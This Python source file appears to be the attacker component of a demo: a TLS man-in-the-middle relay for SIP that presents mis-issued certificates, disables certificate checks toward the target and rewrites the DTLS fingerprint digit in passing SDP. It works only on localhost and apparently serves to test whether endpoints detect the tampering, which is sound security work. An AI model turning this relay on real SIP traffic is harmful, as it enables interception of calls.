# SPDX-License-Identifier: GPL-3.0-or-later
"""The attacker of the demo: between two programs that speak SIP over TLS, with certificates
that the CA should not have given it, it changes the fingerprint in what it passes on."""

import re
import selectors
import socket
import ssl
import threading

_LENGTH = re.compile(rb"^(?:content-length|l)[ \t]*:[ \t]*(\d+)", re.I | re.M)
_FINGERPRINT = re.compile(rb"(a=fingerprint:\S+ )([0-9A-Fa-f])([0-9A-Fa-f])", re.I)
_HEAD_MAX = 65536


def take_messages(unread):
    """(whole SIP messages, the rest): framed by Content-Length (RFC 3261 section 18.3)."""
    messages = []
    while True:
        head, gap, _ = unread.partition(b"\r\n\r\n")
        if not gap:
            return messages, unread
        if not head.strip(b"\r\n"):  # keep-alive (RFC 5626 section 3.5.1)
            messages.append(unread[:4])
            unread = unread[4:]
            continue
        length = _LENGTH.search(head)
        end = len(head) + 4 + (int(length[1]) if length else 0)
        if len(unread) < end:
            return messages, unread
        messages.append(unread[:end])
        unread = unread[end:]


def alter_fingerprint(message):
    """Another first digit in each a=fingerprint; nothing else changes, not even a length."""
    def other(match):
        digit = b"0" if match[2] != b"0" else b"1"
        return match[1] + digit + match[3]
    return _FINGERPRINT.sub(other, message)


class Mitm:
    """Listens on port and connects on to target_port, both on 127.0.0.1. It changes what
    comes from who connected; answers pass as they are. Threads: one that accepts, one for
    each connection; stop() ends them all."""

    def __init__(self, port, target_port, server, client):
        """server, client: (certificate, key) shown to who connects, and to the target."""
        self.altered = 0  # messages whose fingerprint was changed
        self._target_port = target_port
        self._accepting = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._accepting.load_cert_chain(*server)
        self._connecting = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._connecting.check_hostname = False
        self._connecting.verify_mode = ssl.CERT_NONE  # it is not the one to be careful
        self._connecting.load_cert_chain(*client)
        self._stopping = threading.Event()
        self._listener = socket.create_server(("127.0.0.1", port))
        self._listener.settimeout(0.2)
        self._threads = [threading.Thread(target=self._accept, daemon=True)]
        self._threads[0].start()

    def stop(self):
        self._stopping.set()
        for thread in self._threads:
            thread.join(2)
        self._listener.close()

    def _accept(self):
        while not self._stopping.is_set():
            try:
                near, _ = self._listener.accept()
            except (socket.timeout, OSError):
                continue
            thread = threading.Thread(target=self._serve, args=(near,), daemon=True)
            self._threads.append(thread)
            thread.start()

    def _serve(self, near):
        try:
            near.settimeout(5)
            far = socket.create_connection(("127.0.0.1", self._target_port), 5)
            with self._accepting.wrap_socket(near, server_side=True) as a, \
                    self._connecting.wrap_socket(far) as b:
                self._relay(a, b)
        except (OSError, ssl.SSLError):
            near.close()  # the two ends see it as a lost connection

    def _relay(self, a, b):
        other = {a: b, b: a}
        unread = {a: b"", b: b""}
        with selectors.DefaultSelector() as selector:
            for side in (a, b):
                side.settimeout(5)
                selector.register(side, selectors.EVENT_READ)
            while not self._stopping.is_set():
                for key, _ in selector.select(0.2):
                    side = key.fileobj
                    block = side.recv(65536)
                    while side.pending():
                        block += side.recv(65536)
                    if not block or len(unread[side]) > _HEAD_MAX:
                        return
                    messages, unread[side] = take_messages(unread[side] + block)
                    for message in messages:
                        sent = self._change(message) if side is a else message
                        other[side].sendall(sent)

    def _change(self, message):
        changed = alter_fingerprint(message)
        self.altered += changed != message
        return changed
